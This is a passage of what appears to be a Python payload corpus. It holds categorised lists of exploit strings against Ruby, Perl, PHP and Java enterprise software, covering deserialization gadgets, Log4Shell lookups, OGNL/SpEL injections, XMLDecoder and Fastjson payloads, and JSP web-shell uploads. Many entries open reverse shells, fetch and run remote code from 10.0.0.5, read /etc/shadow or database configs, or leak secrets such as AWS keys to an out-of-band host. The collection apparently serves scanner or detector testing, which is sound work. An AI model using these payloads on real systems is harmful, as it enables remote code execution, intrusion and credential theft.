# input (render inline:), and YAML.load of a posted document (CVE-2013-0156 and the universal Gem gadget)
RUBY: list[Entry] = [
    "|cat /etc/passwd",
    "|curl http://10.0.0.5/x.sh|sh",
    "| nc 10.0.0.5 4444 -e /bin/sh",
    "system('id')",
    "`uname -a`",
    "%x(cat /etc/shadow)",
    "exec('/bin/sh -i')",
    "IO.popen('id').read",
    "Open3.capture2('cat /opt/redmine/config/database.yml')",
    "eval(\"`id`\")",
    "Kernel.exec('ls -la /')",
    "send(:system, 'id')",
    "instance_eval('system(\"id\")')",
    "Object.const_get(:Kernel).system('whoami')",
    "__send__(:eval, 'File.read(\"/etc/passwd\")')",
    "Process.spawn('curl http://10.0.0.5/$(hostname)')",
    "#{system('id')}",
    "\";system(\"id\");\"",
    "ERB.new(\"<%= `id` %>\").result",
    "<%= IO.popen('id').readlines() %>",
    ("--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n"
     "? ! \"foo; system('touch /tmp/rails'); @foo\"\n: !ruby/struct\n  defaults:\n    :action: create\n"),
    ("--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs:\n"
     "  - !ruby/object:Gem::Source::SpecificFile\n    spec: &1 !ruby/object:Gem::StubSpecification\n"
     "      loaded_from: \"|id 1>&2\"\n  - !ruby/object:Gem::Source::SpecificFile\n      spec:\n"),
    ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><exploit type=\"yaml\">--- !ruby/object:ERB\n"
     "  src: system('id')\n</exploit>", *XB),
]

# perl-injection: the Perl interpreter of CGI scripts (awstats configdir, TWiki rev, two-argument open() of a
# file parameter, string eval of a template, qx and backticks in a ping form)
PERL: list[Entry] = [
    "|echo;echo YYY;id;echo YYY;echo|",
    "2|cat /etc/passwd",
    "/bin/cat /etc/passwd|",
    "|cat /etc/passwd|",
    ";id|",
    "../../../../bin/ls -la /|",
    "system(\"id\")",
    "qx{id}",
    "`cat /etc/shadow`",
    "exec(\"/bin/sh -i\")",
    "eval{system('id')}",
    "eval \"\\x73ystem('id')\"",
    "open(my $f,\"-|\",\"id\");print <$f>;",
    "@{[system \"id\"]}",
    "${\\ `id`}",
    "readpipe('uname -a')",
    "CORE::system('id')",
    "do '/tmp/upload.pl'",
    "require '/var/tmp/sess_9f1c.pl'",
    ("use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in(4444,"
     "inet_aton(\"10.0.0.5\")))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");"
     "exec(\"/bin/sh -i\");};"),
]

# php-data-scheme: data: URIs for the include parameters of old PHP CMSs and their components (Mambo and Joomla
# 1.x mosConfig_absolute_path, PHP-Nuke, e107, osCommerce, phpBB mods) on hosts with allow_url_include on: the
# PHP interpreter runs the URI's content
PHP_SHELL = "<?php system($_GET['cmd']); ?>"
PHP_DATA: list[Entry] = [
    "data://text/plain;base64," + _b64(PHP_SHELL),
    "data://text/plain;base64," + _b64("<?php phpinfo(); ?>"),
    "data://text/plain,<?php phpinfo();?>",
    "data:text/plain,<?php system('id');?>",
    "data:;base64," + _b64("<?php passthru('cat /etc/passwd'); ?>"),
    "DATA://text/plain;base64," + _b64("<?php echo shell_exec('uname -a'); ?>"),
    "data://image/jpeg;base64," + _b64("<?php eval($_POST['x']); ?>"),
    "data://text/plain,<?=`id`?>",
    "data://text/plain;charset=utf-8,<?php passthru($_REQUEST['c']);?>",
    "data://text/plain,<?php file_put_contents('s.php','<?php system($_GET[c]);?>');?>",
    "data:,<?php echo file_get_contents('/etc/passwd');?>",
    "data://text/plain;base64," + _b64("<?php @eval(base64_decode($_POST['z0'])); ?>"),
    ("mosConfig_absolute_path=data://text/plain;base64," + _b64(PHP_SHELL), *KV),
    ("GLOBALS[mosConfig_absolute_path]=data:text/plain,<?php system('id');?>", *KV),
    ("page=data://text/plain;base64," + _b64("<?php system('wget http://10.0.0.5/s.txt -O s.php'); ?>"), *KV),
]


# ================================================================================================================
# java
# ----------------------------------------------------------------------------------------------------------------
# java-class-names: the JVM reached through a scripting surface of an enterprise product, naming the classes that
# run commands or load code (ColdFusion createObject("java"), the BeanShell and Groovy consoles of JBoss and
# WebLogic add-ons, Rhino and Nashorn behind javax.script in WebSphere-era rule engines, reflection)
JAVA_CLASSES: list[Entry] = [
    # ColdFusion 9/10: CFML evaluated from a report parameter (Evaluate() on user input)
    "#createObject(\"java\",\"java.lang.Runtime\").getRuntime().exec(\"cmd.exe /c whoami\")#",
    "#createObject(\"java\",\"java.lang.System\").getProperties()#",
    "<cfset rt = createObject(\"java\",\"java.lang.Runtime\").getRuntime()><cfset rt.exec(\"ping 10.0.0.5\")>",
    # BeanShell console (WebLogic / JBoss add-ons) and the Groovy console of an old integration server
    "java.lang.Runtime.getRuntime().exec(\"id\");",
    "bsh.Interpreter i = new bsh.Interpreter(); i.eval(\"Runtime.getRuntime().exec(\\\"id\\\")\");",
    "Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)",
    "java.lang.Class.forName(\"java.lang.Runtime\").getDeclaredMethods()[6]",
    # javax.script: Rhino (Java 6/7 on WebSphere 7) and Nashorn (Java 8)
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"java.lang.Runtime.getRuntime()"
    ".exec('id')\")",
    "importPackage(java.lang); Runtime.getRuntime().exec(\"/bin/sh -c id\");",
    "Java.type(\"java.lang.Runtime\").getRuntime().exec(\"id\")",
    "java.lang.ClassLoader.getSystemClassLoader().loadClass(\"java.lang.Runtime\")",
    "java.lang.System.setSecurityManager(null)",
    "new javax.naming.InitialContext().lookup(\"ldap://10.0.0.5:1389/Exploit\")",
    "java.lang.reflect.Method m = Runtime.class.getMethod(\"exec\", String.class);",
    "sun.misc.Unsafe.getUnsafe().allocateInstance(java.lang.Runtime.class)",
    "Class.forName(\"javax.script.ScriptEngineManager\").newInstance().getEngineByName(\"js\").eval(\"java.lang.Runtime"
    ".getRuntime().exec('id')\")",
    "ClassLoader.getSystemClassLoader().loadClass(\"java.lang.ProcessBuilder\").getConstructor(String[].class)"
    ".newInstance(new Object[]{new String[]{\"id\"}})",
]

# java-process-spawn: the JVM of the product forking a shell (ProcessBuilder, Runtime.exec, the internal
# ProcessImpl), on Unix, on Windows and on IBM i (qsh and the CL `system` command)
JAVA_SPAWN: list[Entry] = [
    "new java.lang.ProcessBuilder(new String[]{\"/bin/sh\",\"-c\",\"id\"}).start()",
    "new ProcessBuilder(\"cmd.exe\",\"/c\",\"ipconfig /all\").redirectErrorStream(true).start()",
    "Runtime.getRuntime().exec(new String[]{\"bash\",\"-c\",\"bash -i >& /dev/tcp/10.0.0.5/4444 0>&1\"})",
    "Runtime.getRuntime().exec(new String[]{\"/QOpenSys/usr/bin/sh\",\"-c\",\"system 'DSPUSRPRF USRPRF(QSECOFR)'\"})",
    "Runtime.getRuntime().exec(\"cmd /c net localgroup administrators\")",
    "new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream()).useDelimiter(\"\\\\A\").next()",
    "Runtime.getRuntime().exec(\"/opt/IBM/WebSphere/AppServer/bin/stopServer.sh server1\")",
    "java.lang.Runtime.getRuntime().exec(\"curl -o /tmp/a.sh http://10.0.0.5/a.sh\").waitFor()",
    "new java.lang.ProcessBuilder(java.util.Arrays.asList(\"powershell\",\"-enc\",\"SQBFAFgA\")).start()",
    "Class.forName(\"java.lang.ProcessImpl\").getDeclaredMethod(\"start\",String[].class,java.util.Map.class,"
    "String.class,ProcessBuilder.Redirect[].class,boolean.class)",
    "ProcessBuilder pb = new ProcessBuilder(\"/usr/bin/nc\",\"10.0.0.5\",\"4444\",\"-e\",\"/bin/sh\"); pb.start();",
    "new ProcessBuilder(\"sqlplus\",\"-s\",\"apps/apps@EBSPROD\",\"@/tmp/x.sql\").start()",
    "Runtime.getRuntime().exec(\"db2 connect to SAMPLE user db2inst1 using db2inst1\")",
    "Runtime.getRuntime().exec(\"/usr/sap/hostctrl/exe/sapcontrol -nr 00 -function StopSystem\")",
    "java.lang.Runtime.getRuntime().exec(\"wget http://10.0.0.5/jboss.sh -O /tmp/j.sh\")",
    "new java.lang.ProcessBuilder(\"/bin/sh\",\"-c\",\"cat /etc/passwd\").inheritIO().start()",
]

# java-serialization: the object-stream magic as it reaches the enterprise endpoints that read Java objects
# (JBoss /invoker/JMXInvokerServlet and EJBInvokerServlet, WebSphere's SOAP connector, a JSF/MyFaces view state in
# Oracle E-Business Suite and WebCenter without encryption, an old Jenkins CLI, a remember-me cookie): raw bytes
# (sent percent-encoded), hex, base64 rO0AB and gzip+base64 H4sI
SER_CC = cc5("touch /tmp/jboss")
SER_DNS = urldns("ebs.jboss.oast.example")
JAVA_SER: list[Entry] = [
    (latin(SER_CC), "form", "rs-raw-body"),
    (latin(SER_DNS), "query", "rs-query"),
    (latin(cc6("ping -c 2 10.0.0.5")), "param-name", "rs-form"),
    (latin(stream(Obj(HASHMAP, (0.75, 12), b"\x77\x08\x00\x00\x00\x10\x00\x00\x00\x00"))), "cookie", "rs-cookie"),
    (latin(groovy1("id")), "query", "rs-param-name"),
    _b64(SER_CC),
    _b64(SER_DNS),
    _b64(stream(Obj(Cls("javax.faces.component.StateHolderSaver", 6470180891722042701, 2,
                        (("L", "className", "Ljava/lang/String;"), ("L", "savedState", "Ljava/io/Serializable;"))),
                    ("javax.faces.component.html.HtmlForm", "j_id1")))),
    _b64(gzip.compress(SER_CC, mtime=0)),
    _b64(gzip.compress(SER_DNS, mtime=0)),
    ("javax.faces.ViewState=" + _b64(gzip.compress(cc6("id"), mtime=0)), *KV),
    SER_CC.hex(),
    SER_DNS.hex().upper(),
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAA"
    "eA==",
    ("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header "
     "xmlns:ns=\"admin\" ns:JMXConnectorContext=\"" + _b64(SER_CC) + "\"/><soapenv:Body><ns:getAttribute/>"
     "</soapenv:Body></soapenv:Envelope>", *XB),
    _b64(jrmp("10.0.0.5", 1099)),
]

# deserialization-gadgets: the chains themselves, as ysoserial lays them out, for the libraries these products
# ship (commons-collections 3 in JBoss 4-6 and WebLogic 10, collections4, commons-beanutils, spring-core/beans,
# groovy, the JDK 7u21 chain, c3p0 in Hibernate stacks, ROME in feed readers, Hibernate itself); the c3p0 chain
# also as the hex of its userOverridesAsString property, several as the JSON of a polymorphic binder
GADGETS: list[Entry] = [
    _b64(cc5("cmd.exe /c whoami")),
    _b64(cc6("/bin/bash -c {echo,Y3VybCAxMC4wLjAuNXxzaA==}|{base64,-d}|{bash,-i}")),
    _b64(cc2()),
    _b64(cc4("nslookup cc4.oast.example")),
    _b64(beanutils()),
    _b64(spring1()),
    _b64(groovy1("calc.exe")),
    _b64(jdk7u21()),
    _b64(c3p0("http://10.0.0.5:8000/", "Exploit")),
    _b64(rome()),
    _b64(hibernate1()),
    _b64(gzip.compress(beanutils(), mtime=0)),
    latin(cc2()),
    latin(hibernate1()),
    "{\"@type\":\"com.mchange.v2.c3p0.WrapperConnectionPoolDataSource\",\"userOverridesAsString\":"
    "\"HexAsciiSerializedMap:" + cc6("id").hex() + ";\"}",
    "[\"com.mchange.v2.c3p0.JndiRefForwardingDataSource\",{\"jndiName\":\"rmi://10.0.0.5:1099/Exploit\","
    "\"loginTimeout\":0}]",
    "<java.util.PriorityQueue serialization=\"custom\"><unserializable-parents/><java.util.PriorityQueue><default>"
    "<size>2</size><comparator class=\"org.apache.commons.beanutils.BeanComparator\"><property>outputProperties"
    "</property></comparator></default><int>3</int></java.util.PriorityQueue></java.util.PriorityQueue>",
    c3p0("http://10.0.0.5:8000/", "WebLogicFactory").hex(),
    "{\"@class\":\"org.springframework.beans.factory.config.PropertyPathFactoryBean\",\"targetBeanName\":"
    "\"ldap://10.0.0.5:1389/obj\",\"propertyPath\":\"foo\",\"beanFactory\":{\"@class\":"
    "\"org.springframework.jndi.support.SimpleJndiBeanFactory\",\"shareableResources\":[\"ldap://10.0.0.5:1389/obj\"]}}",
]

# log4shell: Log4j 2 lookups in whatever these products log (the login name of a JBoss or WebLogic console, the
# User-Agent a VMware or Oracle front end records, a SOAP header, a search term), with nested and encoded lookups;
# the JNDI target is the attacker's LDAP/RMI/IIOP listener (IIOP: WebSphere's own naming protocol)
LOG4SHELL: list[Entry] = [
    "${jndi:ldap://10.0.0.5:1389/Exploit}",
    "${jndi:rmi://10.0.0.5:1099/jbossObj}",
    "${jndi:ldaps://log4j.oast.example/a}",
    "${jndi:dns://log4j.oast.example/weblogic}",
    "${jndi:iiop://10.0.0.5:2809/was}",
    "${jndi:ldap://10.0.0.5:1389/o=tomcat}",
    "${jndi:ldap://10.0.0.5:1389/Basic/Command/Base64/aWQ=}",
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://10.0.0.5:1389/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://10.0.0.5:1099/a}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//10.0.0.5:1389/a}",
    "${${upper:j}${upper:n}${lower:d}${upper:i}:ldap://10.0.0.5/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://10.0.0.5:1389/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://10.0.0.5:1389/a}",
    "${jnd${upper:\u0131}:ldap://10.0.0.5:1389/a}",
    "${jndi:ldap://${env:USER}.${hostName}.log4j.oast.example/a}",
    "${jndi:ldap://${sys:java.version}.${sys:os.name}.log4j.oast.example/}",
    "${jndi:dns://log4j.oast.example/${env:AWS_SECRET_ACCESS_KEY}}",
    "${jndi:ldap://127.0.0.1#evil.oast.example:1389/a}",
    "${${::-${::-$${::-j}}}}",
    ("%24%7Bjndi%3Aldap%3A%2F%2F10.0.0.5%3A1389%2Fpath%7D", "path", "rs-path"),
    "${jndi:${lower:ldap}://${ctx:loginId}.log4j.oast.example/}",
]

# expression-language: the expression engines of the Java web stacks (OGNL in Struts 2 and Confluence, SpEL in
# Spring MVC, Spring Data and Spring Cloud Function, MVEL in WebLogic's console and Drools, JEXL and Hibernate
# Validator EL in Nexus, JSP/JSF EL and JBoss Seam's EL in JSF apps)
S2_045 = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
          "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
          "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
          "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
          "(#context.setMemberAccess(#dm)))).(#cmd='id').(#iswin=(@java.lang.System@getProperty('os.name')"
          ".toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd}))."
          "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())."
          "(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
          "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}")
EL: list[Entry] = [
    # Struts 2 (OGNL): S2-045 in Content-Type, S2-032 method:, S2-016 redirect:, S2-005 \u0023, S2-001 in a field
    (S2_045, "header:Content-Type", "rs-header:Content-Type"),
    "method:#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,#a=@java.lang.Runtime@getRuntime().exec("
    "#parameters.cmd[0]).getInputStream(),#b=new java.io.InputStreamReader(#a),#c=new java.io.BufferedReader(#b),"
    "#d=new char[51020],#c.read(#d),#kxlzx=@org.apache.struts2.ServletActionContext@getResponse().getWriter(),"
    "#kxlzx.println(#d),#kxlzx.close",
    "redirect:${#a=new java.lang.ProcessBuilder(new java.lang.String[]{'id'}).start().getInputStream(),"
    "#b=new java.io.InputStreamReader(#a),#c=new java.io.BufferedReader(#b),#d=new char[50000],#c.read(#d),"
    "#matt=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse'),#matt.getWriter().println(#d),"
    "#matt.getWriter().flush(),#matt.getWriter().close()}",
    ("('\\u0023_memberAccess[\\'allowStaticMethodAccess\\']')(meh)=true&(aaa)(('\\u0023context[\\'xwork.Method"
     "Accessor.denyMethodExecution\\']\\u003d\\u0023foo')(\\u0023foo\\u003dnew java.lang.Boolean(\"false\")))"
     "&(asdf)(('\\u0023rt.exec(\\'id\\')')(\\u0023rt\\u003d@java.lang.Runtime@getRuntime()))=1", *PN),
    "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{\"whoami\"})).redirectErrorStream(true).start(),"
    "#b=#a.getInputStream(),#c=new java.io.InputStreamReader(#b),#d=new java.io.BufferedReader(#c),"
    "#e=new char[50000],#d.read(#e),#f=#context.get(\"com.opensymphony.xwork2.dispatcher.HttpServletResponse\"),"
    "#f.getWriter().println(new java.lang.String(#e)),#f.getWriter().flush(),#f.getWriter().close()}",
    "${(#_memberAccess['allowStaticMethodAccess']=true).(#cmd='id').(#a=@java.lang.Runtime@getRuntime()"
    ".exec(#cmd))}",
    # Confluence (OGNL, CVE-2022-26134) in the URI
    "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),"
    "\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}",
    # Spring (SpEL)
    "T(java.lang.Runtime).getRuntime().exec(\"id\")",
    "#{T(java.lang.Runtime).getRuntime().exec('calc')}",
    "${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "new java.lang.ProcessBuilder({'/bin/sh','-c','id'}).start()",
    ("T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/scf\")", "header:spring.cloud.function.routing-expression",
     "rs-header:spring.cloud.function.routing-expression"),
    ("username[#this.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")]=x", *KV),
    "${T(java.lang.Runtime).getRuntime().exec(new String(new byte[]{0x69,0x64}))}",
    # WebLogic console (CVE-2020-14882/14883): MVEL through Coherence's ShellSession
    ("_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(\"java.lang.Runtime.getRuntime()"
     ".exec('id');\")", *KV),
    "com.tangosol.coherence.mvel2.sh.ShellSession(\"java.lang.Runtime.getRuntime().exec('touch /tmp/wl');\")",
    # MVEL (Drools rules console) and MVEL templates
    "@{java.lang.Runtime.getRuntime().exec('id')}",
    "import java.lang.Runtime; Runtime.getRuntime().exec('calc');",
    # JEXL and Hibernate Validator EL (Nexus Repository Manager 3)
    "''.class.forName('java.lang.Runtime').getRuntime().exec('id')",
    "{\"name\":\"internal\",\"online\":true,\"storage\":{\"blobStoreName\":\"default\",\"strictContentTypeValidation\""
    ":true},\"group\":{\"memberNames\":[\"$\\\\c{''.getClass().forName('java.lang.Runtime').getMethods()[6]"
    ".invoke(null).exec('touch /tmp/nexus')}\"]}}",
    # JSP EL, JSF EL and JBoss Seam (CVE-2010-1871)
    "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")}",
    "${pageContext.servletContext.getResource(\"/WEB-INF/web.xml\")}",
    "#{facesContext.externalContext.redirect(\"https://10.0.0.5/phish\")}",
    ("actionOutcome=/pwn.xhtml?pwned=#{expressions.getClass().forName('java.lang.Runtime').getDeclaredMethod("
     "'getRuntime').invoke(null).exec('id')}", *KV),
]

# polymorphic-deserialization: binders that pick the class from the document (WebLogic wls-wsat XMLDecoder,
# XStream behind the Struts 2 REST plugin, Fastjson and Jackson default typing in Java middle tiers, SnakeYAML
# in config import screens)
POLY: list[Entry] = [
    ("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header>"
     "<work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java version=\"1.4.0\" "
     "class=\"java.beans.XMLDecoder\"><void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" "
     "length=\"3\"><void index=\"0\"><string>/bin/bash</string></void><void index=\"1\"><string>-c</string></void>"
     "<void index=\"2\"><string>id &gt; /tmp/wls</string></void></array><void method=\"start\"/></void></java>"
     "</work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>", *XB),
    ("<java><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>id</string>"
     "</void></object></java>", *XB),
    ("<java version=\"1.7.0_80\" class=\"java.beans.XMLDecoder\"><object class=\"java.io.PrintWriter\">"
     "<string>servers/AdminServer/tmp/_WL_internal/bea_wls_internal/9j4dqk/war/s.jsp</string><void method="
     "\"println\"><string>&lt;% Runtime.getRuntime().exec(request.getParameter(\"c\")); %&gt;</string></void>"
     "<void method=\"close\"/></object></java>", *XB),
    ("<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml.internal.bind"
     ".v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding.xml."
     "XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto."
     "NullCipher\"><serviceIterator class=\"javax.imageio.spi.FilterIterator\"><iter class=\"javax.imageio.spi."
     "FilterIterator\"><iter class=\"java.util.Collections$EmptyIterator\"/><next class=\"java.lang.ProcessBuilder\">"
     "<command><string>touch</string><string>/tmp/s2052</string></command></next></iter><filter class=\"javax."
     "imageio.ImageIO$ContainsFilter\"><method><class>java.lang.ProcessBuilder</class><name>start</name>"
     "<parameter-types/></method><name>foo</name></filter><next class=\"string\">foo</next></serviceIterator>"
     "<lock/></cipher><input class=\"java.lang.ProcessBuilder$NullInputStream\"/><ibuffer/></is></dataSource>"
     "</dataHandler></value></jdk.nashorn.internal.objects.NativeString><string>x</string></entry></map>", *XB),
    ("<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler "
     "class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string>"
     "</command></target><action>start</action></handler></dynamic-proxy></sorted-set>", *XB),
    ("<linked-hash-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans."
     "EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>cmd.exe</string><string>/c"
     "</string><string>calc</string></command></target><action>start</action></handler></dynamic-proxy>"
     "</linked-hash-set>", *XB),
    ("{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://10.0.0.5:1389/Exploit\","
     "\"autoCommit\":true}", *JB),
    ("{\"a\":{\"@type\":\"java.lang.Class\",\"val\":\"com.sun.rowset.JdbcRowSetImpl\"},\"b\":{\"@type\":"
     "\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://10.0.0.5:1099/Exploit\",\"autoCommit\":true}}",
     *JB),
    "{\"@type\":\"Lcom.sun.rowset.JdbcRowSetImpl;\",\"dataSourceName\":\"ldap://10.0.0.5:1389/a\",\"autoCommit\":true}",
    "{\"@type\":\"LLcom.sun.rowset.JdbcRowSetImpl;;\",\"dataSourceName\":\"ldap://10.0.0.5:1389/a\","
    "\"autoCommit\":true}",
    "{\"@type\":\"[com.sun.rowset.JdbcRowSetImpl\"[{,\"dataSourceName\":\"ldap://10.0.0.5:1389/a\","
    "\"autoCommit\":true}",
    ("{\"@type\":\"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory\",\"properties\":{\"data_source\":"
     "\"ldap://10.0.0.5:1389/Exploit\"}}", *JB),
    ("{\"@type\":\"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl\",\"_bytecodes\":[\""
     + _b64(TRANSLET) + "\"],\"_name\":\"a\",\"_tfactory\":{},\"_outputProperties\":{}}", *JB),
    ("[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://10.0.0.5:1389/Exploit\",\"autoCommit\":true}]",
     *JB),
    "[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"jndiLocation\":\"ldap://10.0.0.5:1389/Exploit\"}]",
    "[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://10.0.0.5/spel.xml\"]",
    ("{\"@class\":\"com.zaxxer.hikari.HikariConfig\",\"metricRegistry\":\"ldap://10.0.0.5:1389/Exploit\"}", *JB),
    "[\"org.apache.xbean.propertyeditor.JndiConverter\",{\"asText\":\"ldap://10.0.0.5:1389/Exploit\"}]",
    "[\"org.apache.commons.dbcp.datasources.SharedPoolDataSource\",{\"dataSourceName\":\"ldap://10.0.0.5:1389/a\"}]",
    ("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
     "[\"http://10.0.0.5/yaml-payload.jar\"]]]]", "yaml-body", "rs-yaml-body"),
    "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"rmi://10.0.0.5:1099/Exploit\", autoCommit: true}",
]

# class-loading: code brought into the JVM from outside (URLClassLoader, defineClass, the BCEL class loader,
# JMX MLet, Groovy's class loader), and the ClassLoader reached through data binding (Struts 1 CVE-2014-0114,
# Struts 2 S2-020/S2-021, Spring4Shell on Tomcat)
BCEL = "$$BCEL$$$l$8b$I$A$A$A$A$A$A$AeQ$cbN$c2$40$U$3dS$K$85$W$e4$n$f2$f0$8d$82$81$bd$T$b7$e0$m$b1$S$7c$q"
CLASSLOAD: list[Entry] = [
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://10.0.0.5/evil.jar\")})"
    ".loadClass(\"Evil\").newInstance()",
    ("class.classLoader.resources.dirContext.docBase=\\\\10.0.0.5\\share", *KV),
    ("class['classLoader']['resources']['dirContext']['docBase']=/tmp/uploads", *KV),
    ("Class['classLoader'].parent.URLs[0]=http://10.0.0.5/evil.jar", *KV),
    ("class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i if(\"j\".equals(request."
     "getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\"))."
     "getInputStream(); int a = -1; byte[] b = new byte[2048]; while((a=in.read(b))!=-1){ out.println(new "
     "String(b)); } } %{suffix}i", *KV),
    ("class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader."
     "resources.context.parent.pipeline.first.directory=webapps/ROOT&class.module.classLoader.resources.context."
     "parent.pipeline.first.prefix=tomcatwar&class.module.classLoader.resources.context.parent.pipeline.first."
     "fileDateFormat=", *KV),
    "java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod(\"defineClass\", byte[].class, int.class, "
    "int.class); m.setAccessible(true);",
    "T(org.springframework.cglib.core.ReflectUtils).defineClass('Evil',T(org.springframework.util.Base64Utils)"
    ".decodeFromString('" + _b64(TRANSLET) + "'),new javax.management.loading.MLet(new java.net.URL[0],"
    "T(java.lang.Thread).currentThread().getContextClassLoader())).newInstance()",
    ("{\"@type\":\"org.apache.tomcat.dbcp.dbcp2.BasicDataSource\",\"driverClassLoader\":{\"@type\":"
     "\"com.sun.org.apache.bcel.internal.util.ClassLoader\"},\"driverClassName\":\"" + BCEL + "\"}", *JB),
    "new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass(\"" + BCEL + "\").newInstance()",
    ("action=invokeOpByName&name=DefaultDomain:type=MLet&methodName=getMBeansFromURL&argType=java.lang.String"
     "&arg0=http://10.0.0.5/evil.mlet", *KV),
    "new groovy.lang.GroovyClassLoader().parseClass(new URL(\"http://10.0.0.5/Evil.groovy\").text).newInstance()",
    "java.lang.invoke.MethodHandles.lookup().defineClass(java.util.Base64.getDecoder().decode(\"" + _b64(TRANSLET)
    + "\"))",
    "Thread.currentThread().getContextClassLoader().loadClass(\"org.apache.jasper.runtime.HttpJspBase\")",
    "#createObject(\"java\",\"java.net.URLClassLoader\").init([createObject(\"java\",\"java.net.URL\")"
    ".init(\"http://10.0.0.5/cf.jar\")]).loadClass(\"Shell\").newInstance()#",
]

# jsp-upload: a JSP/JSPX web shell put where the servlet container serves it (an upload whose name ends in .jsp,
# a traversal into webapps/ROOT or JBoss's deploy directory, the Tomcat PUT trailing-slash and Windows tricks),
# and the WAR deployment requests of the Tomcat manager and JBoss's MainDeployer
JSP_SHELL = ("<%@ page import=\"java.io.*\" %><% String c = request.getParameter(\"cmd\"); if (c != null) { "
             "Process p = Runtime.getRuntime().exec(c); BufferedReader r = new BufferedReader(new "
             "InputStreamReader(p.getInputStream())); String l; while ((l = r.readLine()) != null) "
             "out.println(l); } %>")
JSP_UPLOAD: list[Entry] = [
    "cmd.jsp",
    "shell.jspx",
    "../../../../opt/jboss/server/default/deploy/ROOT.war/cmd.jsp",
    "..\\..\\..\\Program Files\\Apache Software Foundation\\Tomcat 7.0\\webapps\\ROOT\\shell.jsp",
    "x.jsp;.jpg",
    "shell.jsp%00.png",
    "browse.JSP",
    "cmd.jsp/",
    "cmd.jsp::$DATA",
    "../../../../u01/oracle/user_projects/domains/base_domain/servers/AdminServer/tmp/_WL_internal/"
    "bea_wls_internal/9j4dqk/war/x.jsp",
    (JSP_SHELL, "multipart-field", "rs-form"),
    ("<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"1.2\"><jsp:scriptlet>Runtime.getRuntime()"
